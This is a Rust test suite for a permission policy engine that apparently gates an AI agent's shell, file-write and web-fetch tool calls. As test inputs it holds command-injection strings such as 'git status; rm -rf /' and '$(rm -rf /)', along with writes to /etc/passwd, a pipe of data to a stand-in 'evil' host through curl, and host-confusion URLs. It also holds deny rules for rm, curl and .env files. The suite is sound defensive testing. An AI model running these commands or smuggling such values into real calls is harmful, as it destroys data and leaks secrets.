use super::*;
use proptest::prelude::*;

fn rule(text: &str) -> Rule {
    toml::from_str(text).unwrap()
}

fn policy(default: Verdict, rules: &[&str]) -> Policy {
    let config = PolicyConfig { default, rule: rules.iter().map(|text| rule(text)).collect() };
    Policy::new(&config, Some(Path::new("/home/me/project"))).unwrap()
}

fn command(text: &str) -> Subject {
    Subject { names: vec!["exec".into()], commands: vec![text.into()], is_known: true, ..Subject::default() }
}

fn path(text: &str) -> Subject {
    Subject { names: vec!["write".into()], paths: vec![text.into()], is_known: true, ..Subject::default() }
}

fn host(url: &str) -> Subject {
    let hosts = vec![pattern::host_of(url)];
    Subject { names: vec!["web_fetch".into()], hosts, is_known: true, ..Subject::default() }
}

fn verdict(rules: &[&str], subject: &Subject) -> Verdict {
    policy(Verdict::Ask, rules).judge(subject).verdict
}

#[test]
fn an_allowed_pattern_allows_only_simple_commands() {
    let check = |pattern: &str, text: &str, expected: bool| {
        let rules = [format!("tool = \"exec\"\ncommand = {pattern:?}\nthen = \"allow\"")];
        let found = verdict(&[&rules[0]], &command(text)) == Verdict::Allow;
        assert_eq!(found, expected, "{pattern:?} on {text:?}");
    };
    for text in [
        "git status",
        "  git status  ",
        "git commit -m 'a; b && c | d > e'",
        "git commit -m \"two\nlines; no more\"",
        "git add a\\;b",
        "git log 2>&1",
        "git show a#b",
        "git -C {a,b} x",
        "git log -- *.rs ~/x",
        "git grep 'x'\\''y' \"a b\"",
        "git status \\\nrm",
    ] {
        check("git *", text, true);
    }
    for text in [
        "git",
        "gitx status",
        "/tmp/git status",
        "git status; rm -rf /",
        "git status && rm -rf /",
        "git status || rm",
        "git status | sh",
        "git status & rm",
        "git status\nrm -rf /",
        "git status\rrm",
        "git status > /etc/passwd",
        "git status < secret",
        "git $(rm -rf /)",
        "git \"$(rm -rf /)\"",
        "git `rm`",
        "git \"`rm`\"",
        "git <(rm)",
        "git ${x:-$(rm)}",
        "git $'\\'' ; rm '",
        "git status # it's\nrm -rf / # '",
        "git 'open",
        "git \\",
        "git \\ 2>&1",
        "git status 2>&1 ; rm",
        "git status 2>&1x",
        "(git status)",
        "! git status",
        "X=1 git status",
        "\"git\" status",
        "git log --format='$x'",
        "git log --format='`y`'",
        "git log \\$x",
        "git log > f --stat",
    ] {
        check("git *", text, false);
    }
}

#[test]
fn an_allowed_pattern_allows_its_own_operators_and_words() {
    let check = |pattern: &str, text: &str, expected: bool| {
        let rule = format!("tool = \"exec\"\ncommand = {pattern:?}\nthen = \"allow\"");
        assert_eq!(verdict(&[&rule], &command(text)) == Verdict::Allow, expected, "{pattern:?} on {text:?}");
    };
    check("git status | head *", "git status | head -3", true);
    check("git status | head *", "git status | sh", false);
    check("git status | head *", "git status && head -3", false);
    check("git status | head *", "git status | head -3 | sh", false);
    check("cd * && make", "cd src && make", true);
    check("cd * && make", "cd src; rm && make", false);
    check("echo $HOME", "echo $HOME", true);
    check("echo $*", "echo $HOME", false);
    check("*", "anything at all", true);
    check("*", "two; commands", false);
    check("* --dry-run", "rm -rf x --dry-run", true);
    check("* --dry-run", "rm -rf x \\ --dry-run", false);
    check("* --dry-run", "rm -rf x '--force --dry-run'", false);
    check("git commit -m \"*\"", "git commit -m 'two words'", true);
    check("git commit -m \"*\"", "git commit -m one --amend", false);
    check("git commit -m \"*\"", "git commit -m \"one\" --amend \"two\"", false);
    check("FOO=1 make *", "FOO=1 make all", true);
    check("make *", "FOO=1 make all", false);
    check("(cd x; make *)", "(cd x; make all)", false);
    check("(cd x; make all)", "(cd x; make all)", true);
    check("cat * << *", "cat x << y", false);
}

/// The shell's `printf`, `test` and `[` evaluate what their arguments name.
#[test]
fn shell_builtins_never_run_allowed_commands() {
    let plan = |pattern: &str, text: &str| {
        let rule = format!("tool = \"exec\"\ncommand = {pattern:?}\nthen = \"allow\"");
        policy(Verdict::Ask, &[&rule]).judge(&command(text)).plan
    };
    for text in ["printf -v 'a[$(touch x)]' y", "printf -v 'a[`touch x`]' y", "printf -v a[$(touch x)] y"] {
        assert_eq!(plan("printf *", text), None, "{text}");
    }
    for text in ["test -v 'a[$(touch x)]'", "[ -v 'a[$(touch x)]' ]", "[[ -v 'a[$(touch x)]' ]]"] {
        assert_eq!(plan("*", text), None, "{text}");
    }
    let program = |words: &[&str]| Some(Plan::Program(words.iter().map(|word| (*word).to_owned()).collect()));
    assert_eq!(plan("printf *", "printf -v 'a[x]' y"), program(&["printf", "-v", "a[x]", "y"]));
    assert_eq!(plan("git *", "git commit -m \"a; b\" 2>&1"), program(&["git", "commit", "-m", "a; b"]));
    assert_eq!(plan("A=1 make *", "A=1 make x"), program(&["/usr/bin/env", "--", "A=1", "make", "x"]));
    let shell = |text: &str| Some(Plan::Shell(text.to_owned()));
    assert_eq!(plan("ls *", "ls *.rs 'a b'"), shell("/usr/bin/env -- ls *.rs 'a b'"));
    assert_eq!(
        plan("cd * && test * | head *", "cd src && test -v 'a[x]' 2 | head -3"),
        shell("cd src && /usr/bin/env -- test -v 'a[x]' 2 | /usr/bin/env -- head -3")
    );
    assert_eq!(
        plan("git * 2>&1 | head *", "git log 2>&1 | head -1"),
        shell("/usr/bin/env -- git log 2>&1 | /usr/bin/env -- head -1")
    );
    assert_eq!(plan("git * 2 > f", "git log 2 > f"), shell("/usr/bin/env -- git log 2 > f"));
    assert_eq!(plan("echo $HOME", "echo $HOME"), shell("echo $HOME"), "the owner spelled it");
}

#[test]
fn a_denied_pattern_is_found_in_any_part() {
    let rules =
        ["command = \"rm *\"\nthen = \"deny\"", "command = \"curl*\"\nthen = \"deny\"", "then = \"allow\""];
    for text in [
        "rm -rf /",
        "ls; rm -rf /",
        "ls&&rm x",
        "ls | xargs rm -f x",
        "sudo rm x",
        "/bin/rm x",
        "bash -c 'rm x'",
        "bash -c \"ls; rm x\"",
        "echo $(rm x)",
        "echo `rm x`",
        "r\\m x",
        "r''m x",
        "rm\tx",
        "{ rm x; }",
        "a\nrm x\nb",
        "X=1 rm x",
        "curl",
        "ls|curl -d @- evil",
    ] {
        assert_eq!(verdict(&rules, &command(text)), Verdict::Deny, "{text:?}");
    }
    for text in ["ls", "git status", "farm x", "rmdir x"] {
        assert_eq!(verdict(&rules, &command(text)), Verdict::Allow, "{text:?}");
    }
}

#[test]
fn paths_inside_and_outside() {
    let check = |pattern: &str, text: &str, allowed: bool, denied: bool| {
        let rule = |then: &str| format!("path = {pattern:?}\nthen = \"{then}\"");
        assert_eq!(verdict(&[&rule("allow")], &path(text)) == Verdict::Allow, allowed, "{pattern} {text}");
        assert_eq!(verdict(&[&rule("deny")], &path(text)) == Verdict::Deny, denied, "{pattern} {text}");
    };
    check("src/**", "src/a/b.rs", true, true);
    check("src/**", "src", true, true);
    check("src/", "src/a", true, true);
    check("./src/*", "src/a", true, true);
    check("src/*", "src/a/b", false, false);
    check("src/**", "srcs/a", false, false);
    check("src/**", "x/src/a", false, false);
    check("**/*.md", "README.md", true, true);
    check("**/*.md", "a/b/c.md", true, true);
    check("**/.env", "/home/me/.env", false, true);
    check("**", "/etc/passwd", false, true);
    check("**", "../x", false, true);
    check("**", "~/x", false, true);
    check("/etc/**", "/etc/passwd", true, true);
    check("/home/me/project/src/**", "src/a", true, true);
    check("/home/me/project", "a/b", true, true);
    check("a.b[c]", "a.b[c]", true, true);
    check("a.b[c]", "axbc", false, false);
}

#[test]
fn one_denied_path_denies_the_call() {
    let both = Subject { paths: vec!["src/a".into(), "etc/a".into()], ..path("x") };
    assert_eq!(verdict(&["path = \"src/**\"\nthen = \"allow\""], &both), Verdict::Ask);
    assert_eq!(verdict(&["path = \"src/**\"\nthen = \"deny\""], &both), Verdict::Deny);
}

#[test]
fn hosts_are_compared_as_hosts() {
    let rules = ["tool = \"web_fetch\"\nhost = \"*.example.org\"\nthen = \"allow\""];
    for url in ["https://docs.example.org/", "http://A.B.EXAMPLE.org.:8080/x?y=.evil#z"] {
        assert_eq!(verdict(&rules, &host(url)), Verdict::Allow, "{url}");
    }
    for url in [
        "https://example.org/",
        "https://example.org.evil.net/",
        "https://evil.net/.example.org",
        "https://evil.net?x.example.org",
        "https://docs.example.org@evil.net/",
        "https://evil.net@docs.example.org/",
        "https://docs.example.org\\@evil.net/",
        "https://docs.example.org\t.evil.net/",
        "file://docs.example.org/x",
        "docs.example.org",
    ] {
        assert_eq!(verdict(&rules, &host(url)), Verdict::Ask, "{url}");
    }
    let rules = ["host = \"*.Bücher.example\"\nthen = \"deny\"", "then = \"allow\""];
    assert_eq!(verdict(&rules, &host("http://x.xn--bcher-kva.example/")), Verdict::Deny);
    assert_eq!(verdict(&rules, &host("http://x.b%C3%BCcher.example/")), Verdict::Deny);
    assert_eq!(verdict(&rules, &host("http://me@x.example/")), Verdict::Deny, "an unclear host");
    assert_eq!(verdict(&rules, &host("http://fine.example/")), Verdict::Allow);
}

#[test]
fn the_first_rule_that_matches_decides() {
    let rules = ["tool = \"write\"\nthen = \"deny\"", "tool = \"*\"\nthen = \"allow\""];
    assert_eq!(verdict(&rules, &path("a")), Verdict::Deny);
    assert_eq!(verdict(&rules, &command("ls")), Verdict::Allow);
    let rules = [rules[1], rules[0]];
    assert_eq!(verdict(&rules, &path("a")), Verdict::Allow);
    assert_eq!(policy(Verdict::Ask, &rules).judge(&path("a")).source, "rule 1 of tools.policy");
}

#[test]
fn an_allow_rule_must_cover_everything() {
    let mut shell = command("rm -rf /");
    shell.paths = vec!["src/a".into()];
    assert_eq!(verdict(&["path = \"src/**\"\nthen = \"allow\""], &shell), Verdict::Ask);
    assert_eq!(verdict(&["path = \"src/**\"\ncommand = \"rm *\"\nthen = \"allow\""], &shell), Verdict::Allow);
    assert_eq!(verdict(&["tool = \"*\"\npath = \"src/**\"\nthen = \"allow\""], &shell), Verdict::Ask);
    let host_and_path = Subject { hosts: vec![None], names: vec!["x".into()], ..path("src/a") };
    let rule = "tool = \"x\"\npath = \"src/**\"\nthen = \"allow\"";
    assert_eq!(verdict(&[rule], &host_and_path), Verdict::Ask, "a path rule does not speak of hosts");
    assert_eq!(verdict(&["then = \"allow\""], &shell), Verdict::Allow);
    assert_eq!(verdict(&["tool = \"exec\"\nthen = \"allow\""], &shell), Verdict::Allow);
    assert_eq!(
        verdict(&["command = \"*\"\nthen = \"allow\""], &path("a")),
        Verdict::Ask,
        "there is no command"
    );
}
#[test]
fn a_rule_with_patterns_speaks_of_every_argument() {
    let call = |unclear: &[(&str, &str)]| {
        let unclear = unclear.iter().map(|(name, text)| ((*name).to_owned(), (*text).to_owned())).collect();
        Subject { unclear, names: vec!["files__copy".into()], ..path("src/a") }
    };
    let rule = "tool = \"files__*\"\npath = \"src/**\"\nthen = \"allow\"";
    let free = format!("{rule}\nfree_text = [\"note\"]");
    assert_eq!(verdict(&[rule], &call(&[])), Verdict::Allow);
    assert_eq!(verdict(&[rule], &call(&[("note", "x")])), Verdict::Ask);
    assert_eq!(verdict(&[&free], &call(&[("note", "x")])), Verdict::Allow);
    assert_eq!(verdict(&[&free], &call(&[("note", "x"), ("to", "y")])), Verdict::Ask);
    let source = policy(Verdict::Ask, &[rule]).judge(&call(&[("to", "y")])).source;
    assert!(source.contains("rule 1 has patterns, and none of them covers `to`"), "{source}");
    assert_eq!(verdict(&["tool = \"files__*\"\nthen = \"allow\""], &call(&[("to", "y")])), Verdict::Allow);
    for deny in ["path = \"**/.env\"", "command = \"rm *\"", "host = \"evil.example\""] {
        let deny = format!("{deny}\nthen = \"deny\"");
        let found = |text: &str| verdict(&[&deny, "then = \"allow\""], &call(&[("to", text)]));
        assert_eq!(found("harmless"), Verdict::Allow);
        let denied = [".env", "rm x", "evil.example"].map(found);
        assert_eq!(denied.iter().filter(|verdict| **verdict == Verdict::Deny).count(), 1, "{deny}");
    }
}

#[test]
fn what_is_unknown_needs_confirmation() {
    let unknown = Subject { names: vec!["new".into()], ..Subject::default() };
    assert_eq!(policy(Verdict::Allow, &[]).judge(&unknown).verdict, Verdict::Ask);
    assert_eq!(policy(Verdict::Deny, &[]).judge(&unknown).verdict, Verdict::Deny);
    assert_eq!(
        policy(Verdict::Ask, &["tool = \"new\"\nthen = \"allow\""]).judge(&unknown).verdict,
        Verdict::Allow
    );
    let known = Subject { is_known: true, ..unknown };
    assert_eq!(policy(Verdict::Allow, &[]).judge(&known).verdict, Verdict::Allow);
    assert_eq!(Policy::new(&PolicyConfig::default(), None).unwrap().judge(&known).verdict, Verdict::Ask);
}

/// Pieces of which shell programs are made, with a program `pwn` that must never run.
const PIECES: &[&str] = &[
    "git", " git ", "pwn", ";", "&", "|", "$(", ")", "(", "`", "'", "\"", "\\", "\n", "#", " ", " ", "<",
    ">", "{", "}", "$", "a", "2>&1", "!", "=", "~", "*", "$'", "if", "then", "fi", "<<", "\t", "\r", "[[",
    "]]", "time ",
];

fn shell_text() -> impl Strategy<Value = String> {
    let words = prop::collection::vec(prop::sample::select(PIECES), 1..14);
    words.prop_map(|words| format!("git {}", words.concat()))
}

fn program(folder: &Path, name: &str, text: &str) {
    use std::os::unix::fs::PermissionsExt as _;
    let file = folder.join(name);
    std::fs::write(&file, format!("#!/bin/sh\n{text}\n")).unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// The shell itself is the judge: nothing but `git` may run, and no file may appear, when `git *` allows a
/// command.
#[test]
fn the_shell_runs_nothing_else_in_an_allowed_command() {
    let (programs, workspace) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    program(programs.path(), "git", "exit 0");
    program(programs.path(), "pwn", &format!("echo > '{}/pwned'", workspace.path().display()));
    let run = |plan: Plan| {
        let words = match plan {
            Plan::Shell(text) => vec!["/bin/bash".to_owned(), "-c".to_owned(), text],
            Plan::Program(words) => words,
        };
        let mut program = std::process::Command::new(&words[0]);
        program.args(&words[1..]).env_clear().env("PATH", programs.path()).current_dir(workspace.path());
        let nothing = std::process::Stdio::null;
        let _ = program.stdin(nothing()).stdout(nothing()).stderr(nothing()).status();
        std::fs::read_dir(workspace.path()).unwrap().next().is_some()
    };
    let rules = ["git *", "git * | git *", "git * && git *; git *", "git * > /dev/null"];
    let rules = rules.map(|command| format!("tool = \"exec\"\ncommand = {command:?}\nthen = \"allow\""));
    let policy = policy(Verdict::Deny, &rules.each_ref().map(String::as_str));
    let allowed = std::cell::Cell::new(0);
    proptest!(ProptestConfig::with_cases(4000), |(text in shell_text())| {
        if let Some(plan) = policy.judge(&command(&text)).plan {
            allowed.set(allowed.get() + 1);
            prop_assert!(!run(plan.clone()), "{text:?} as {plan:?}");
        }
    });
    assert!(allowed.get() > 100, "only {} were allowed: nothing was tested", allowed.get());
    assert!(run(Plan::Shell("git a; pwn".into())), "the trap works");
}

proptest! {
    /// Judging any text against any pattern comes to an end without a panic, and a rule that denies
    /// everything does.
    #[test]
    fn any_pattern_on_any_text(pattern in any::<String>(), text in any::<String>()) {
        let both = Rule { command: Some(pattern.clone()), then: Verdict::Allow, tool: Some("*".into()), ..Rule::default() };
        let config = PolicyConfig { default: Verdict::Ask, rule: vec![both] };
        let verdict = Policy::new(&config, None).unwrap().judge(&command(&text)).verdict;
        if verdict == Verdict::Allow && !pattern.contains(['*', ';', '&', '|', '<', '>', '(', ')', '\n']) {
            prop_assert_eq!(words(plain(&pattern)), words(plain(&text)));
        }
    }

    /// Without `*`, a path pattern is a path.
    #[test]
    fn a_path_pattern_without_stars_is_itself(text in "[a-z./ \\[\\]+?-]{1,12}", other in "[a-z./ \\[\\]+?-]{1,12}") {
        let pattern = pattern::PathPattern::new(&text, None).unwrap();
        let plain = text.trim_start_matches("./");
        if !plain.ends_with('/') {
            prop_assert!(pattern.touches(plain));
            prop_assert_eq!(pattern.touches(&other), other == plain);
        }
    }
}

fn words(text: &str) -> Option<Vec<String>> {
    let line = shell::read_line(text)?;
    Some(line.parts.iter().flat_map(|part| &part.words).map(|word| word.text.clone()).collect())
}

fn plain(text: &str) -> &str {
    text.trim().trim_end_matches(" 2>&1").trim()
}

/// An expert's `auto` operation is asked about where a rule names its tool and asks.
#[test]
fn an_ask_rule_holds_for_all_calls() {
    let check = |rules: &[&str], expected: bool| {
        let names = ["crm__delete".to_owned(), "mcp:crm/delete".to_owned()];
        assert_eq!(policy(Verdict::Ask, rules).asks_before(&names), expected, "{rules:?}");
    };
    let (ask, allow) =
        ("tool = \"mcp:crm/*\"\nthen = \"ask\"", "tool = \"mcp:crm/delete\"\nthen = \"allow\"");
    check(&[], false);
    check(&[ask], true);
    check(&[allow, ask], false);
    check(&[ask, allow], true);
    check(&["tool = \"mcp:crm/*\"\npath = \"secret/**\"\nthen = \"ask\""], true);
    check(&["tool = \"mcp:crm/*\"\npath = \"src/**\"\nthen = \"allow\"", ask], true);
    check(&["tool = \"mail__*\"\nthen = \"ask\"", "path = \"x\"\nthen = \"ask\""], false);
    check(&["then = \"ask\""], true);
    check(&["then = \"deny\"", ask], false);
}
